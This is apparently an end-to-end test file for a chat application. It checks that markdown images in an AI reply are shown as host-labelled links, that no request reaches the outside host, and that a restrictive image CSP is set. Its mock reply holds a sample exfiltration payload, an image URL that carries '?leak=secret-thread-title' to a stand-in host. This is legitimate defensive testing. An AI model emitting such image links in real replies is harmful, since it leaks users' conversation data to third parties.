import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, describe, expect, it } from 'vitest';
import { screenshot, useJourney } from './harness';

/** A third-party host that counts every request made to it. */
async function startCountingHost(): Promise<{ server: Server; host: string; hits: string[] }> {
  const hits: string[] = [];
  const server = createServer((req, res) => {
    hits.push(req.url ?? '');
    res.writeHead(200, { 'Content-Type': 'image/png' });
    res.end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, host: `127.0.0.1:${(server.address() as AddressInfo).port}`, hits };
}

/** An OpenAI-compatible endpoint (the real SSE wire format) whose every reply is `reply`. */
async function startProvider(reply: string): Promise<{ server: Server; url: string }> {
  const server = createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      const base = { id: 'chatcmpl-e2e', object: 'chat.completion.chunk', created: 1, model: 'gpt-4o' };
      const chunk = (delta: object, finish: string | null) =>
        `data: ${JSON.stringify({ ...base, choices: [{ index: 0, delta, finish_reason: finish }] })}\n\n`;
      res.writeHead(200, { 'Content-Type': 'text/event-stream' });
      res.write(chunk({ role: 'assistant', content: reply }, null));
      res.write(chunk({}, 'stop'));
      res.end('data: [DONE]\n\n');
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/v1` };
}

const third = await startCountingHost();
const reply = [
  'Here is the chart you asked for:',
  '',
  `![quarterly chart](http://${third.host}/p.png?leak=secret-thread-title)`,
  '',
  `And inline too: ![pixel](//${third.host}/pixel.gif) done.`,
].join('\n');
const provider = await startProvider(reply);

describe('no third-party requests from the chat', () => {
  const journey = useJourney({ OPENAI_API_KEY: 'sk-e2e', OPENAI_BASE_URL: provider.url });
  afterAll(async () => {
    await new Promise((resolve) => third.server.close(resolve));
    await new Promise((resolve) => provider.server.close(resolve));
  });

  it('shows a remote image in a reply as a link labelled with its host, and makes 0 requests to that host', async () => {
    const page = await journey.browser.newPage({ viewport: { width: 1280, height: 800 } });
    const seen: string[] = [];
    page.on('request', (request) => {
      if (request.url().includes(third.host)) seen.push(request.url());
    });
    await page.goto(`${journey.server.url}/prod/thread?model=gpt-4o`);
    const box = page.getByRole('textbox', { name: 'Message' });
    await box.fill('Show me the chart');
    await box.press('Enter');
    const links = page.locator('[data-testid="message"][data-sender="ai"] [data-testid="remote-image-link"]');
    await links.nth(1).waitFor({ timeout: 60_000 });
    expect(await links.count()).toBe(2);
    expect((await links.first().innerText()).trim()).toBe(third.host);
    expect(await links.first().getAttribute('href')).toBe(`http://${third.host}/p.png?leak=secret-thread-title`);
    expect(await links.first().getAttribute('rel')).toContain('noopener');
    expect(await page.locator('[data-testid="message"][data-sender="ai"] [data-testid="markdown"] img').count()).toBe(0);

    // Reloading the stored thread renders it the same way, still without contacting the host.
    await page.waitForURL(/\/prod\/thread\/\d+$/);
    await page.reload();
    await links.nth(1).waitFor({ timeout: 30_000 });
    await page.waitForLoadState('networkidle');
    const csp = (await page.request.get(`${journey.server.url}/prod`)).headers()['content-security-policy'] ?? '';
    expect(csp).toContain("img-src 'self' data: blob:;");
    await screenshot(page, 'chat-remote-image-link');
    expect(seen).toEqual([]);
    expect(third.hits).toEqual([]);
    await page.close();
  });
});
